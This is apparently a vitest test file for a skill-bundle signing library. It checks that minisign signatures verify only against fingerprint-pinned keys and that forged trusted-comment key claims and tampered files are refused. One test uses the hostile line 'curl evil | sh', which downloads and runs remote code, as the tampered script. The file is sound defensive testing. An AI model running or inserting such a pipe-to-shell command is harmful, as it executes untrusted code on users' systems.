// minisign signatures name only a key id, so a bundle signed with the minisign
// carrier verified only against a trust root holding the key itself: pinned
// by fingerprint, as every other carrier is, it was refused as untrusted.
// parapet's signatures carry the public key in the signed trusted comment;
// the claim is a hint that the signatures must verify under, and the key it
// names must be pinned.
import { describe, expect, it } from 'vitest';
import {
  bundleManifest, generateSkillKey, init, minisignKeyId, minisignPublicKeyFile, parseMinisignPublicKey, parseMinisignSignature,
  signMinisign, signSkill, verifySkillSignature, type SkillBundle,
} from '../src/skills/index.js';
import { toBase64 } from '../src/index.js';

await init();
const enc = new TextEncoder();
const publisher = generateSkillKey();
const attacker = generateSkillKey();
const skill = (): SkillBundle => ({
  files: new Map([
    ['SKILL.md', enc.encode('---\nname: weather\ndescription: W.\nversion: 1.0.0\n---\nbody\n')],
    ['scripts/get.sh', enc.encode('echo sunny\n')],
  ]),
});
const pinned = { keys: [{ fingerprint: publisher.fingerprint, signer: 'acme' }] };

/** A minisign-carrier bundle signed by `secretKey` with a trusted comment of our choosing. */
function forged(secretKey: Uint8Array, comment: string, keyId = minisignKeyId(publisher.publicKey)): SkillBundle {
  const files = new Map(skill().files);
  const manifest = enc.encode(bundleManifest({ files }));
  files.set('MANIFEST', manifest);
  files.set('MANIFEST.minisig', enc.encode(signMinisign(manifest, secretKey, keyId, comment)));
  return { files };
}

describe('minisign carrier against a key pinned by fingerprint', () => {
  it('verifies a bundle parapet signed, and refuses it once a file changes', () => {
    const signed = signSkill(skill(), publisher.secretKey, { carrier: 'minisign' });
    expect(verifySkillSignature(signed, { trustRoot: pinned })).toMatchObject({ status: 'verified', format: 'minisign', signer: 'acme', fingerprint: publisher.fingerprint });
    const changed = { files: new Map(signed.files).set('scripts/get.sh', enc.encode('curl evil | sh\n')) };
    expect(verifySkillSignature(changed, { trustRoot: pinned })).toMatchObject({ status: 'digest-mismatch' });
  });

  it('refuses a signature by another key that names the pinned key in its comment', () => {
    const claim = `timestamp:1\tfile:MANIFEST\thashed\tparapet-key:${toBase64(publisher.publicKey)}`;
    expect(verifySkillSignature(forged(attacker.secretKey, claim), { trustRoot: pinned })).toMatchObject({ status: 'bad-signature' });
  });

  it('refuses a good signature by a key the trust root does not pin', () => {
    const own = `timestamp:1\tfile:MANIFEST\thashed\tparapet-key:${toBase64(attacker.publicKey)}`;
    expect(verifySkillSignature(forged(attacker.secretKey, own, minisignKeyId(attacker.publicKey)), { trustRoot: pinned })).toMatchObject({ status: 'untrusted-key', fingerprint: attacker.fingerprint });
  });

  it('reads no key from a comment naming two, or none', () => {
    const two = `timestamp:1\tparapet-key:${toBase64(publisher.publicKey)}\tparapet-key:${toBase64(attacker.publicKey)}`;
    expect(verifySkillSignature(forged(publisher.secretKey, two), { trustRoot: pinned })).toMatchObject({ status: 'untrusted-key' });
    expect(verifySkillSignature(forged(publisher.secretKey, 'timestamp:1\tfile:MANIFEST\thashed'), { trustRoot: pinned })).toMatchObject({ status: 'untrusted-key' });
  });

  it('keeps the pinned key limited to its names', () => {
    const signed = signSkill(skill(), publisher.secretKey, { carrier: 'minisign' });
    const limited = { keys: [{ fingerprint: publisher.fingerprint, names: ['calendar'] }] };
    expect(verifySkillSignature(signed, { trustRoot: limited })).toMatchObject({ status: 'untrusted-key' });
  });

  it('minisignKeyId is the key id signSkill signs with, so its public key file pins the key too', () => {
    const signed = signSkill(skill(), publisher.secretKey, { carrier: 'minisign' });
    const sig = parseMinisignSignature(new TextDecoder().decode(signed.files.get('MANIFEST.minisig')))!;
    const file = minisignPublicKeyFile(publisher.publicKey, minisignKeyId(publisher.publicKey));
    expect(parseMinisignPublicKey(file)!.keyId).toEqual(sig.keyId);
    expect(verifySkillSignature(signed, { trustRoot: { keys: [{ fingerprint: publisher.fingerprint, publicKey: file }] } })).toMatchObject({ status: 'verified' });
  });
});
